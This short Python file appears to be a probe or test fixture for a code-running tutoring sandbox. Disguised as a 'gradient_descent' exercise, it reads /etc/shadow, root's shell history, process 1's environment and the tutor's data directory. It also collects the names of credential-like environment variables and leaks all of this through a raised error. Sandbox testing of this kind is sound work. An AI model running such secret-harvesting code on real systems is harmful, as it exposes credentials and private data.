# Tries the host's secrets, the tutor's data dir (__DATA_DIR__) and environment.
import os

LEAKS = []
for path in ("/etc/shadow", "/root/.bash_history", "__DATA_DIR__", "/proc/1/environ"):
    try:
        if os.path.isdir(path):
            LEAKS.append((path, os.listdir(path)))
        else:
            with open(path, "rb") as f:
                LEAKS.append((path, f.read(40)))
    except OSError:
        pass
LEAKS += [k for k in os.environ if k.startswith(("TUTOR", "OPENAI", "AWS", "HF_TOKEN"))]


def gradient_descent(X, y, lr=0.01, epochs=1000):
    raise RuntimeError(f"leaks: {LEAKS}")
